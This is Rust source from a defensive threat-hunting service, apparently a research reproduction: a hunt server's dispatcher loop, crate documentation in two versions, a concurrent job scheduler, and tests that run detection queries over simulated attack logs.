            .unwrap_or_else(PoisonError::into_inner)
            .take()
        {
            let _ = handle.join();
        }
        self.pool.shutdown();
        // Dropping the entries drops the channel senders: subscribers'
        // receive loops end once they drain what was delivered.
        self.follows
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clear();
    }
}

impl Drop for HuntServer {
    fn drop(&mut self) {
        self.shutdown();
    }
}

/// The dispatcher loop: park on the ingest epoch, snapshot once per
/// wakeup, fan the snapshot out to every standing query.
///
/// The registry lock is held across the whole fan-out on purpose: it is
/// what makes [`HuntServer::follow`]'s seed-then-register step race-free
/// (no epoch can be fanned out between a new entry's seeding snapshot
/// and its registration). The cost — registration and `follow_*`
/// accessors stall during a fan-out — is the accepted tradeoff.
fn dispatch_loop(
    ingest: &IngestService,
    follows: &Mutex<Vec<FollowEntry>>,
    shutdown: &AtomicBool,
    processed: &AtomicU64,
    snapshots: &SnapshotCache,
) {
    // Dispatcher telemetry lives on the ingest service's registry, like
    // every other server metric.
    let registry = ingest.registry();
    let epochs = registry.counter("follow_epochs_total");
    let deliveries = registry.counter("follow_deliveries_total");
    let delivery_ns = registry.histogram("follow_delivery_ns");
    let serve_trace = TraceSink::new(Arc::clone(registry), "serve_stage_ns");
    // Start from the epoch captured at *construction*, not from a fresh
    // read on this thread: appends can land before this thread's first
    // instruction, and a fresh read would silently mark them processed.
    // ordering: `processed` stores are Release / loads Acquire so that
    // wait_caught_up() observing epoch N also sees every delta the
    // dispatcher delivered for N (fan-out happens-before the bump).
    let mut last = processed.load(Ordering::Acquire);
    while !shutdown.load(Ordering::Acquire) {
        // The timeout is a liveness backstop only (a poke-less exit
        // path); every real wakeup comes from append/seal notifications.
        let current = ingest.wait_epoch_newer(last, Duration::from_secs(1));
        if shutdown.load(Ordering::Acquire) {
            break;
        }
        if current == last {
            continue;
        }
        epochs.inc();
        let mut entries = follows.lock().unwrap_or_else(PoisonError::into_inner);
        if entries.is_empty() {
            // Nothing subscribed: acknowledge the epoch without paying
            // for a snapshot.
            drop(entries);
            last = current;
            processed.store(current, Ordering::Release);
            continue;
        }
        let dispatch_span = serve_trace.span("epoch_dispatch");
        // One snapshot per epoch, shared by every standing query — and
        // with the ad-hoc job workers, through the same cache.
        let snapshot = snapshots.get(ingest);
        entries.retain_mut(|entry| {
            let started = Instant::now();
            match entry.hunt.poll(&snapshot) {
                // Deliver only non-empty deltas; a send failure means the
                // subscriber dropped its receiver — unregister the query.
                Ok(delta) => {
                    delta.unchanged
                        || delta.is_empty()
                        || entry
                            .tx
                            // The subscription channel is unbounded
                            // (see follow()): this send never blocks,
                            // so holding the registry lock across it
                            // cannot stall other threads.
                            // threatraptor-lint: allow L003 — unbounded channel, non-blocking send
                            .send(FollowEvent {
                                epoch: current,
                                delta,
                            })
                            .inspect(|()| {
                                // Delivery latency: epoch observation →
                                // delta on the subscriber's channel.
                                delivery_ns.record_duration(started.elapsed());
                                deliveries.inc();
                            })
                            .is_ok()
                }
                // The plan compiled at registration; an execution error
                // here is unrecoverable for this query. Dropping the
                // entry disconnects the subscriber, which is the signal.
                Err(_) => false,
            }
        });
        drop(entries);
        drop(dispatch_span);
        last = current;
        processed.store(current, Ordering::Release);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_audit::LogFeed;
    use threatraptor_storage::SealPolicy;
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn scenario() -> threatraptor_audit::sim::scenario::Scenario {
        ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(4_000)
            .build()
    }

    fn server() -> HuntServer {
        HuntServer::new(ServerConfig::with_ingest(IngestConfig::with_policy(
            SealPolicy::events(500),
        )))
    }

    /// The acceptance criterion: a registered standing query receives its
    /// delta via its subscription channel after `append`, with no
    /// explicit poll call anywhere.
    #[test]
    fn standing_query_is_driven_by_ingest_events() {
        let sc = scenario();
        let server = server();
        let (alerts, initial) = server.follow(FIG2_TBQL).unwrap();
        assert!(initial.is_empty(), "nothing ingested yet");

        let delivered: usize = std::thread::scope(|scope| {
            let consumer = scope.spawn(|| {
                // Only the subscription channel — no poll calls.
                let mut total = 0;
                while let Ok(event) = alerts.recv() {
                    assert!(!event.delta.is_empty(), "only non-empty deltas ship");
                    total += event.delta.new_matches;
                }
                total
            });
            for chunk in LogFeed::by_events(&sc.raw, 700) {
                server.append(&chunk.unwrap());
            }
            assert!(server.wait_caught_up(Duration::from_secs(60)));
            server.shutdown(); // disconnects the channel; consumer drains
            consumer.join().unwrap()
        });
        assert!(
            delivered > 0,
            "the streamed attack must reach the subscriber"
        );

        // Exactly-once: what was delivered equals a from-scratch batch
        // hunt over the final snapshot — nothing duplicated, nothing
        // dropped. (Raw match count works here because the simulator's
        // timestamps are fine-grained: every batch match has a distinct
        // identity. Workloads with identity collisions — same pair, op,
        // and start on distinct events — alert once per identity; see
        // `exp_e11`'s identity accounting.)
        let batch = threatraptor_engine::ShardedEngine::new(&server.snapshot())
            .hunt(FIG2_TBQL)
            .unwrap();
        assert_eq!(delivered, batch.matches.len());
    }

    #[test]
    fn job_queue_returns_completion_handles() {
        let sc = scenario();
        let server = server();
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        let handles: Vec<JobHandle> = (0..8)
            .map(|i| {
                if i % 2 == 0 {
                    server.submit(HuntJob::tbql(FIG2_TBQL))
                } else {
                    server.submit(HuntJob::tbql(
                        "proc p[\"%/bin/ghost%\"] read file f return p",
                    ))
                }
            })
            .collect();
        for (i, handle) in handles.iter().enumerate() {
            let report = handle.wait();
            let result = report.outcome.expect("valid TBQL executes");
            assert_eq!(result.is_empty(), i % 2 != 0, "job {i}");
            // wait() is repeatable and try_result agrees after completion.
            assert!(handle.try_result().is_some());
        }
        // Ids are unique and dense.
        let mut ids: Vec<u64> = handles.iter().map(|h| h.id().0).collect();
        ids.dedup();
        assert_eq!(ids.len(), 8);
    }

    #[test]
    fn ad_hoc_hunts_and_standing_queries_share_one_plan() {
        let sc = scenario();
        let server = server();
        let (_alerts, _) = server.follow(FIG2_TBQL).unwrap();
        for chunk in LogFeed::by_events(&sc.raw, 1_500) {
            server.append(&chunk.unwrap());
        }
        assert!(!server.hunt(FIG2_TBQL).unwrap().is_empty());
        assert!(server.wait_caught_up(Duration::from_secs(60)));
        assert_eq!(
            server.cache_stats().misses,
            1,
            "jobs and standing queries must share one compiled plan"
        );
        server.shutdown();
    }

    #[test]
    fn backpressured_queue_completes_every_job() {
        let sc = scenario();
        let server = HuntServer::new(
            ServerConfig::with_ingest(IngestConfig::with_policy(SealPolicy::events(500)))
                .workers(2)
                .queue_capacity(1),
        );
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        // Far more jobs than the queue holds: submission blocks instead
        // of failing, and every handle completes.
        let handles: Vec<JobHandle> = (0..16)
            .map(|_| server.submit(HuntJob::tbql(FIG2_TBQL)))
            .collect();
        assert!(handles.iter().all(|h| h.wait().outcome.is_ok()));
    }

    #[test]
    fn graceful_shutdown_drains_and_rejects() {
        let sc = scenario();
        let server = server();
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        let accepted = server.submit(HuntJob::tbql(FIG2_TBQL));
        server.shutdown();
        // The accepted job drained to completion…
        assert!(accepted.wait().outcome.is_ok());
        // …new submissions resolve immediately with Shutdown…
        let rejected = server.submit(HuntJob::tbql(FIG2_TBQL));
        assert!(matches!(
            rejected.try_result().unwrap().outcome,
            Err(ServiceError::Shutdown)
        ));
        // …and so do new standing queries.
        assert!(matches!(
            server.follow(FIG2_TBQL),
            Err(ServiceError::Shutdown)
        ));
        // Idempotent.
        server.shutdown();
    }

    /// Infeasible queries are refused at compile time — before any rows
    /// are scanned — on every entry point: queued submit, direct hunt,
    /// and standing (follow-mode) registration. Resubmits are served
    /// from the plan cache's rejection memo.
    #[test]
    fn infeasible_hunts_rejected_for_oneshot_and_follow() {
        let sc = scenario();
        let server = server();
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        // Cyclic `before` ordering: E001 under the DBM feasibility check.
        let bad = "proc p read file f as e1 proc p write file g as e2 \
                   with e1 before e2, e2 before e1 return p";
        let report = server.submit(HuntJob::tbql(bad)).wait();
        assert!(
            matches!(report.outcome, Err(ServiceError::Infeasible(_))),
            "{:?}",
            report.outcome
        );
        let err = server.hunt(bad).unwrap_err();
        let ServiceError::Infeasible(diags) = &err else {
            panic!("expected Infeasible, got {err}");
        };
        assert!(diags.iter().all(|d| d.code == "E001"), "{diags:?}");
        let err = server.follow(bad).unwrap_err();
        assert!(matches!(err, ServiceError::Infeasible(_)));
        assert_eq!(server.follow_count(), 0, "no standing query registered");

        // Both job paths (queued submit and direct hunt) label the
        // outcome "rejected" — like shutdown refusals — and later probes
        // hit the cached rejection.
        let snap = server.metrics();
        let rejected = snap
            .histogram("job_latency_ns", &[("status", "rejected")])
            .map(|h| h.count)
            .unwrap_or(0);
        assert_eq!(rejected, 2);
        let stats = server.cache_stats();
        assert_eq!(stats.rejections, 1, "one rejection memoized");
        assert!(stats.rejection_hits >= 2, "hunt + follow hit the memo");
        server.shutdown();
    }

    #[test]
    fn unfollow_disconnects_the_subscription() {
        let sc = scenario();
        let server = server();
        let (alerts, _) = server.follow(FIG2_TBQL).unwrap();
        assert_eq!(server.follow_count(), 1);
        assert!(server.unfollow(alerts.id()));
        assert!(!server.unfollow(alerts.id()), "second remove is a no-op");
        assert_eq!(server.follow_count(), 0);
        for chunk in LogFeed::by_events(&sc.raw, 2_000) {
            server.append(&chunk.unwrap());
        }
        assert!(server.wait_caught_up(Duration::from_secs(60)));
        assert!(
            matches!(alerts.try_recv(), Err(TryRecvError::Disconnected)),
            "an unfollowed subscription must disconnect, not buffer"
        );
    }

    #[test]
    fn follow_result_tracks_the_running_merge() {
        let sc = scenario();
        let server = server();
        let (alerts, _) = server.follow(FIG2_TBQL).unwrap();
        for chunk in LogFeed::by_events(&sc.raw, 800) {
            server.append(&chunk.unwrap());
        }
        assert!(server.wait_caught_up(Duration::from_secs(60)));
        let running = server.follow_result(alerts.id()).unwrap();
        let batch = threatraptor_engine::ShardedEngine::new(&server.snapshot())
            .hunt(FIG2_TBQL)
            .unwrap();
        assert_eq!(running.matches.len(), batch.matches.len());
        assert!(server.follow_result(u64::MAX).is_none());
    }

    #[test]
    fn dispatcher_follows_run_incrementally() {
        let sc = scenario();
        let server = server();
        let (_alerts, _) = server.follow(FIG2_TBQL).unwrap();
        for chunk in LogFeed::by_events(&sc.raw, 800) {
            server.append(&chunk.unwrap());
        }
        assert!(server.wait_caught_up(Duration::from_secs(60)));
        // Dispatcher snapshots carry the stream frontier, so every
        // standing-query poll takes the delta path — no full
        // re-execution after the seeding poll, and the telemetry layer
        // sees the incremental counters.
        let metrics = server.metrics();
        let delta_polls = metrics.counter("follow_delta_polls_total").unwrap_or(0);
        assert!(delta_polls > 0, "server follows must run incrementally");
        // From-zero scans are confined to startup: the seeding poll on
        // the empty store, plus dispatcher polls before the first rows
        // stabilize. Steady-state polls all scan the fresh range only.
        let fallbacks = metrics.counter("follow_full_fallback_total").unwrap_or(0);
        assert!(
            fallbacks < delta_polls,
            "steady-state polls must not re-scan from zero \
             ({fallbacks} fallbacks / {delta_polls} delta polls)"
        );
        assert!(metrics.gauge("follow_partials_retained").is_some());
    }

    #[test]
    fn profiles_propagate_trace_context_end_to_end() {
        let sc = scenario();
        let server = server();
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        let handle = server.submit(HuntJob::tbql(FIG2_TBQL));
        let report = handle.wait();
        assert!(report.outcome.is_ok());
        // The profile is visible as soon as wait() returns, keyed by
        // the job id, carrying the handle's trace id.
        let profile = server.profile(handle.id()).expect("profile retained");
        assert_eq!(profile.trace_id, handle.trace_id());
        assert_eq!(profile.status, "ok");
        assert!(profile.matches > 0);
        assert!(profile.tbql.is_some(), "resolved TBQL rides the profile");
        // The trace tree has queue_wait and exec under the root, and
        // per-pattern scan spans under exec.
        let names: Vec<&str> = profile
            .trace
            .children(threatraptor_obs::ROOT_SPAN)
            .into_iter()
            .map(|i| profile.trace.nodes()[i].name.as_str())
            .collect();
        assert_eq!(names, vec!["queue_wait", "exec"]);
        let exec = profile
            .trace
            .nodes()
            .iter()
            .position(|n| n.name == "exec")
            .unwrap();
        let stage_names: Vec<&str> = profile
            .trace
            .children(exec)
            .into_iter()
            .map(|i| profile.trace.nodes()[i].name.as_str())
            .collect();
        assert!(stage_names.iter().any(|n| n.starts_with("scan:")));
        for stage in ["propagate", "join", "project"] {
            assert!(stage_names.contains(&stage), "missing {stage}");
        }
        // Latency bounds the parts and is what slow_hunts ranks by.
        assert!(profile.latency >= profile.queue_wait);
        assert!(profile.latency >= profile.exec);
        // The chrome export of a real profile is parseable JSON.
        let chrome = profile.trace.to_chrome_trace().compact();
        assert!(threatraptor_obs::JsonValue::parse(&chrome).is_ok());
        server.shutdown();
    }

    #[test]
    fn slow_hunt_log_retains_worst_n_under_concurrent_submissions() {
        let sc = scenario();
        let server = HuntServer::new(
            ServerConfig::with_ingest(IngestConfig::with_policy(SealPolicy::events(500)))
                .workers(4)
                .slow_hunt_capacity(5),
        );
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        let handles: Vec<JobHandle> = (0..24)
            .map(|_| server.submit(HuntJob::tbql(FIG2_TBQL)))
            .collect();
        for handle in &handles {
            handle.wait();
        }
        let slow = server.slow_hunts();
        assert_eq!(slow.len(), 5, "exactly worst-N retained");
        // Slowest first, strictly ordered by latency.
        assert!(slow.windows(2).all(|w| w[0].latency >= w[1].latency));
        // The retained five are exactly the five largest latencies the
        // 24 jobs produced (no profile lost, none duplicated).
        let ids: std::collections::BTreeSet<u64> = slow.iter().map(|p| p.job_id.0).collect();
        assert_eq!(ids.len(), 5);
        for p in &slow {
            assert_eq!(server.profile(p.job_id).unwrap().trace_id, p.trace_id);
        }
        server.shutdown();
        // Rejected submissions never land in the slow log.
        let rejected = server.submit(HuntJob::tbql(FIG2_TBQL));
        assert!(rejected.wait().outcome.is_err());
        assert!(server.profile(rejected.id()).is_none());
        assert_eq!(server.slow_hunts().len(), 5);
    }

    #[test]
    fn job_latency_is_labeled_by_outcome() {
        let sc = scenario();
        let server = server();
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        server.hunt(FIG2_TBQL).unwrap();
        let err = server.hunt("this is not TBQL");
        assert!(err.is_err());
        let snapshot = server.metrics();
        let count = |snap: &MetricsSnapshot, status: &str| {
            snap.histogram("job_latency_ns", &[("status", status)])
                .map(|h| h.count)
                .unwrap_or(0)
        };
        assert_eq!(count(&snapshot, "ok"), 1);
        assert_eq!(count(&snapshot, "error"), 1);
        assert_eq!(count(&snapshot, "rejected"), 0);
        server.shutdown();
        server.submit(HuntJob::tbql(FIG2_TBQL)).wait();
        assert_eq!(count(&server.metrics(), "rejected"), 1);
    }

    #[test]
    fn dispatcher_epoch_lag_gauge_reports_caught_up() {
        let sc = scenario();
        let server = server();
        let (_alerts, _) = server.follow(FIG2_TBQL).unwrap();
        for chunk in LogFeed::by_events(&sc.raw, 1_000) {
            server.append(&chunk.unwrap());
        }
        assert!(server.wait_caught_up(Duration::from_secs(60)));
        let snapshot = server.metrics();
        assert_eq!(
            snapshot.gauge("dispatcher_epoch_lag"),
            Some(0),
            "caught-up dispatcher has zero lag"
        );
        assert_eq!(snapshot.gauge("follow_subscriptions"), Some(1));
        server.shutdown();
    }

    #[test]
    fn dropped_subscribers_are_unregistered_on_next_delivery() {
        let sc = scenario();
        let server = server();
        let (alerts, _) = server.follow(FIG2_TBQL).unwrap();
        drop(alerts);
        for chunk in LogFeed::by_events(&sc.raw, 800) {
            server.append(&chunk.unwrap());
        }
        assert!(server.wait_caught_up(Duration::from_secs(60)));
        // The attack fired at least one delivery attempt into the dead
        // channel; the dispatcher must have pruned the entry.
        assert_eq!(server.follow_count(), 0);
    }
}
