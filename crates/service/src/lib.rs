//! # threatraptor-service
//!
//! The multi-hunt execution service: everything between "one parsed log,
//! one query at a time" and "a store serving heavy concurrent hunt
//! traffic".
//!
//! The reproduction's base pipeline (paper Fig. 1) is strictly
//! single-hunt: one [`AuditStore`], one query, one result. Production
//! threat hunting is not — intelligence arrives continuously, analysts
//! and automation hunt concurrently, and the same queries recur across
//! time windows and re-runs. This crate adds that layer:
//!
//! * [`job::HuntJob`] — a unit of hunt work: raw OSCTI text *or* TBQL;
//! * [`cache::PlanCache`] — compiled plans keyed by normalized query
//!   text, plus memoized report synthesis (keyed by content hash),
//!   shared by all workers, with LRU eviction on both maps;
//! * [`scheduler::HuntScheduler`] — a fixed worker pool draining a job
//!   batch against a [`ShardedStore`], merging results deterministically
//!   (submission order);
//! * [`service::HuntService`] — the owning façade: store + cache +
//!   config, constructed from a parsed log or an existing store;
//! * [`ingest::IngestService`] — the *live* variant: a thread-safe
//!   front-end over a [`StreamingStore`] accepting appended log chunks
//!   while hunts run against immutable snapshots;
//! * [`follow::FollowHunt`] — standing queries over a growing store:
//!   poll with successive snapshots, get only the newly appeared matches
//!   merged into a running result.
//!
//! Execution inside each job uses
//! [`threatraptor_engine::ShardedEngine`], whose scatter-gather keeps
//! *exact* result parity with single-store execution (fan-out happens at
//! the data-query level; joins stay global).
//!
//! [`AuditStore`]: threatraptor_storage::AuditStore
//! [`ShardedStore`]: threatraptor_storage::ShardedStore
//! [`StreamingStore`]: threatraptor_storage::StreamingStore

pub mod cache;
pub mod follow;
pub mod ingest;
pub mod job;
pub mod scheduler;
pub mod service;

pub use cache::{normalize_tbql, CacheStats, CachedPlan, PlanCache, ReportKey};
pub use follow::{FollowDelta, FollowHunt};
pub use ingest::{IngestConfig, IngestService, IngestStatus};
pub use job::{HuntJob, JobReport, ServiceError};
pub use scheduler::HuntScheduler;
pub use service::{HuntService, ServiceConfig};
