//! # threatraptor-service
//!
//! The multi-hunt execution service: everything between "one parsed log,
//! one query at a time" and "a store serving heavy concurrent hunt
//! traffic".
//!
//! The reproduction's base pipeline (paper Fig. 1) is strictly
//! single-hunt: one [`AuditStore`], one query, one result. Production
//! threat hunting is not — intelligence arrives continuously, analysts
//! and automation hunt concurrently, and the same queries recur across
//! time windows and re-runs. This crate adds that layer:
//!
//! * [`job::HuntJob`] — a unit of hunt work: raw OSCTI text *or* TBQL;
//! * [`cache::PlanCache`] — compiled plans keyed by normalized query
//!   text, plus memoized report synthesis (keyed by content hash),
//!   shared by all workers, with LRU eviction on both maps;
//! * [`pool::WorkerPool`] — detached worker threads draining one bounded
//!   task queue: backpressure on overflow, panic isolation, graceful
//!   drain-then-join shutdown;
//! * [`scheduler::HuntScheduler`] — batch hunts against a
//!   [`ShardedStore`] on a persistent worker pool, results merged
//!   deterministically (submission order);
//! * [`service::HuntService`] — the owning façade: store + cache +
//!   scheduler, constructed from a parsed log or an existing store;
//! * [`ingest::IngestService`] — the *live* variant: a thread-safe
//!   front-end over a [`StreamingStore`] accepting appended log chunks
//!   while hunts run against immutable snapshots, with epoch
//!   notification hooks for event-driven consumers;
//! * [`follow::FollowHunt`] — standing queries over a growing store:
//!   poll with successive snapshots, get only the newly appeared matches
//!   (exactly-once per match identity) merged into a running result;
//! * [`server::HuntServer`] — the long-lived serving loop over all of
//!   the above: a persistent job queue with completion handles, and
//!   standing queries driven by ingest events through per-subscription
//!   channels instead of explicit polls;
//! * [`profile::HuntProfile`] — per-job execution profiles (trace tree
//!   plus headline timings), retained worst-N by latency in the
//!   server's slow-hunt log.
//!
//! Execution inside each job uses
//! [`threatraptor_engine::ShardedEngine`], whose scatter-gather keeps
//! *exact* result parity with single-store execution (fan-out happens at
//! the data-query level; joins stay global).
//!
//! [`AuditStore`]: threatraptor_storage::AuditStore
//! [`ShardedStore`]: threatraptor_storage::ShardedStore
//! [`StreamingStore`]: threatraptor_storage::StreamingStore

pub mod cache;
pub mod follow;
pub mod ingest;
pub mod job;
pub mod pool;
pub mod profile;
pub mod scheduler;
pub mod server;
pub mod service;

pub use cache::{normalize_tbql, CacheStats, CachedPlan, PlanCache, ReportKey};
pub use follow::{FollowDelta, FollowHunt};
pub use ingest::{IngestConfig, IngestService, IngestStatus};
pub use job::{HuntJob, JobReport, ServiceError};
pub use pool::{SubmitError, WorkerPool};
pub use profile::HuntProfile;
pub use scheduler::HuntScheduler;
pub use server::{FollowEvent, FollowSubscription, HuntServer, JobHandle, JobId, ServerConfig};
pub use service::{HuntService, ServiceConfig};
