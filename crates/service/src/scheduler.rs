//! The concurrent hunt scheduler: a persistent worker pool draining a
//! shared job queue against one sharded store.
//!
//! Workers are **detached threads** pulling jobs from a shared bounded
//! queue (see [`crate::pool::WorkerPool`]) — no per-worker queues (hunt
//! latencies vary by orders of magnitude, so work stealing by
//! construction beats static assignment), and no per-batch thread
//! spawning: the pool is created once, lives as long as the scheduler,
//! and successive batches reuse it. Each worker resolves its job to a
//! compiled plan through the shared [`PlanCache`], executes it with a
//! [`ShardedEngine`], and sends the report back tagged with the job's
//! submission index — so the merged batch output is deterministic
//! regardless of worker interleaving. A job that panics produces a
//! [`ServiceError::Worker`] report; the worker itself survives.

use crate::cache::PlanCache;
use crate::job::{HuntJob, JobReport, ServiceError};
use crate::pool::WorkerPool;
use crossbeam::channel::unbounded;
use std::any::Any;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::{Arc, OnceLock};
use std::time::Instant;
use threatraptor_engine::{ExecMode, HuntResult, ShardedEngine};
use threatraptor_storage::ShardedStore;

/// Renders a caught panic payload as text for [`ServiceError::Worker`].
pub(crate) fn panic_text(payload: &(dyn Any + Send)) -> String {
    payload
        .downcast_ref::<&str>()
        .map(|s| (*s).to_string())
        .or_else(|| payload.downcast_ref::<String>().cloned())
        .unwrap_or_else(|| "unknown panic payload".into())
}

/// Resolves and executes one job against one store snapshot, catching
/// panics into [`ServiceError::Worker`]. Shared by the scheduler's
/// workers and the [`crate::server::HuntServer`] job queue.
pub(crate) fn execute_job(
    store: &ShardedStore,
    cache: &PlanCache,
    shard_threads: usize,
    mode: ExecMode,
    index: usize,
    job: &HuntJob,
) -> JobReport {
    let t0 = Instant::now();
    let (tbql, cache_hit, outcome) = catch_unwind(AssertUnwindSafe(|| {
        resolve_and_execute(store, cache, shard_threads, mode, job)
    }))
    .unwrap_or_else(|payload| {
        (
            None,
            false,
            Err(ServiceError::Worker(panic_text(&*payload))),
        )
    });
    JobReport {
        index,
        job: job.clone(),
        tbql,
        outcome,
        cache_hit,
        elapsed: t0.elapsed(),
    }
}

fn resolve_and_execute(
    store: &ShardedStore,
    cache: &PlanCache,
    shard_threads: usize,
    mode: ExecMode,
    job: &HuntJob,
) -> (Option<String>, bool, Result<HuntResult, ServiceError>) {
    let tbql_src = match job {
        HuntJob::Tbql(src) => src.clone(),
        HuntJob::Report(text) => match cache.synthesize_report(text) {
            Ok(tbql) => tbql,
            Err(e) => return (None, false, Err(ServiceError::Synthesis(e))),
        },
    };
    let (plan, cache_hit) = match cache.plan(&tbql_src) {
        Ok(v) => v,
        Err(e) => return (Some(tbql_src), false, Err(ServiceError::from(e))),
    };
    let engine = ShardedEngine::with_threads(store, shard_threads);
    let outcome = engine
        .execute(&plan.compiled, mode)
        .map_err(ServiceError::from);
    (Some(plan.tbql.clone()), cache_hit, outcome)
}

/// A scheduler owning shared handles on a store and a plan cache, plus a
/// lazily spawned persistent worker pool. The long-lived state (store,
/// cache) is shared by [`Arc`]; the pool spawns on the first batch and is
/// reused by every later one, so configure worker counts (builder
/// methods) before the first [`HuntScheduler::run`].
#[derive(Debug)]
pub struct HuntScheduler {
    store: Arc<ShardedStore>,
    cache: Arc<PlanCache>,
    workers: usize,
    shard_threads: usize,
    mode: ExecMode,
    pool: OnceLock<WorkerPool>,
}

impl HuntScheduler {
    /// A scheduler with one worker per available core. Per-hunt shard
    /// fan-out defaults to sequential (`shard_threads = 1`): with many
    /// concurrent hunts, the job level is the right place to spend cores,
    /// and nesting both levels oversubscribes the pool.
    pub fn new(store: Arc<ShardedStore>, cache: Arc<PlanCache>) -> HuntScheduler {
        let workers = std::thread::available_parallelism()
            .map(|p| p.get())
            .unwrap_or(1);
        HuntScheduler {
            store,
            cache,
            workers,
            shard_threads: 1,
            mode: ExecMode::Scheduled,
            pool: OnceLock::new(),
        }
    }

    /// Sets the worker-pool size (clamped to at least 1). Takes effect if
    /// called before the first batch; the pool spawns once.
    pub fn workers(mut self, workers: usize) -> HuntScheduler {
        self.workers = workers.max(1);
        self
    }

    /// Sets the per-hunt shard fan-out thread count.
    pub fn shard_threads(mut self, threads: usize) -> HuntScheduler {
        self.shard_threads = threads.max(1);
        self
    }

    /// Sets the execution strategy (default: the paper's scheduled mode).
    pub fn mode(mut self, mode: ExecMode) -> HuntScheduler {
        self.mode = mode;
        self
    }

    /// Configured worker count.
    pub fn worker_count(&self) -> usize {
        self.workers
    }

    fn pool(&self) -> &WorkerPool {
        // Queue depth 2× the workers: enough to keep every worker fed
        // while the submitter is parked, small enough that backpressure
        // engages before a runaway batch buffers unboundedly.
        self.pool
            .get_or_init(|| WorkerPool::new(self.workers, self.workers * 2))
    }

    /// Runs a batch of jobs to completion on the worker pool and returns
    /// reports in submission order. Submission applies backpressure: once
    /// the shared queue is full this blocks until workers catch up.
    pub fn run(&self, jobs: Vec<HuntJob>) -> Vec<JobReport> {
        let n = jobs.len();
        if n == 0 {
            return Vec::new();
        }
        let (done_tx, done_rx) = unbounded::<JobReport>();
        let pool = self.pool();
        for (index, job) in jobs.into_iter().enumerate() {
            let store = Arc::clone(&self.store);
            let cache = Arc::clone(&self.cache);
            let (shard_threads, mode) = (self.shard_threads, self.mode);
            let tx = done_tx.clone();
            pool.submit(Box::new(move || {
                let _ = tx.send(execute_job(
                    &store,
                    &cache,
                    shard_threads,
                    mode,
                    index,
                    &job,
                ));
            }))
            .expect("the scheduler's pool lives as long as the scheduler");
        }
        drop(done_tx);

        // Workers finished in arbitrary order; the channel disconnects
        // once the last task's sender clone is dropped.
        let mut slots: Vec<Option<JobReport>> = (0..n).map(|_| None).collect();
        for report in done_rx.iter() {
            let index = report.index;
            slots[index] = Some(report);
        }
        slots
            .into_iter()
            .map(|slot| slot.expect("every job reports exactly once"))
            .collect()
    }

    /// Executes one job directly on the calling thread (no pool).
    pub fn run_job(&self, index: usize, job: &HuntJob) -> JobReport {
        execute_job(
            &self.store,
            &self.cache,
            self.shard_threads,
            self.mode,
            index,
            job,
        )
    }

    /// Convenience single hunt for a TBQL query through the cache.
    pub fn hunt(&self, tbql: &str) -> Result<HuntResult, ServiceError> {
        self.run_job(0, &HuntJob::tbql(tbql)).outcome
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn store() -> Arc<ShardedStore> {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage, AttackKind::PasswordCrack])
            .target_events(5_000)
            .build();
        Arc::new(ShardedStore::ingest(&sc.log, true, 4))
    }

    #[test]
    fn batch_reports_come_back_in_submission_order() {
        let store = store();
        let cache = Arc::new(PlanCache::new());
        let sched = HuntScheduler::new(store, Arc::clone(&cache)).workers(4);
        let jobs: Vec<HuntJob> = (0..12)
            .map(|i| {
                if i % 2 == 0 {
                    HuntJob::tbql(FIG2_TBQL)
                } else {
                    HuntJob::tbql("proc p[\"%/bin/ghost%\"] read file f return p")
                }
            })
            .collect();
        let reports = sched.run(jobs);
        assert_eq!(reports.len(), 12);
        for (i, r) in reports.iter().enumerate() {
            assert_eq!(r.index, i);
            let result = r.outcome.as_ref().expect("valid TBQL executes");
            assert_eq!(result.is_empty(), i % 2 != 0, "job {i}");
        }
        // 2 distinct plans retained; concurrent first touches may each
        // count a miss (up to one per worker per plan), so bound hits
        // from below by the worst-case race rather than exactly.
        let s = cache.stats();
        assert_eq!(s.plans, 2);
        assert_eq!(s.hits + s.misses, 12);
        assert!(s.hits >= 12 - 2 * 4, "too few cache hits: {}", s.hits);
    }

    #[test]
    fn the_pool_is_reused_across_batches() {
        let store = store();
        let cache = Arc::new(PlanCache::new());
        let sched = HuntScheduler::new(store, cache).workers(2);
        for _ in 0..3 {
            let reports = sched.run(vec![HuntJob::tbql(FIG2_TBQL); 4]);
            assert!(reports.iter().all(|r| r.outcome.is_ok()));
        }
    }

    #[test]
    fn report_jobs_synthesize_then_hunt() {
        let store = store();
        let cache = Arc::new(PlanCache::new());
        let sched = HuntScheduler::new(store, cache).workers(2);
        let reports = sched.run(vec![
            HuntJob::report(threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT),
            HuntJob::report("Nothing interesting happened today."),
        ]);
        let ok = &reports[0];
        assert!(ok.tbql.as_deref().unwrap().contains("%/bin/tar%"));
        assert!(!ok.outcome.as_ref().unwrap().is_empty());
        let bad = &reports[1];
        assert!(matches!(bad.outcome, Err(ServiceError::Synthesis(_))));
        assert!(bad.tbql.is_none());
    }

    #[test]
    fn bad_tbql_surfaces_engine_error() {
        let store = store();
        let cache = Arc::new(PlanCache::new());
        let sched = HuntScheduler::new(store, cache);
        let err = sched.hunt("totally broken").unwrap_err();
        assert!(matches!(err, ServiceError::Engine(_)));
    }

    #[test]
    fn empty_batch_is_fine() {
        let store = store();
        let cache = Arc::new(PlanCache::new());
        let reports = HuntScheduler::new(store, cache).run(Vec::new());
        assert!(reports.is_empty());
    }
}
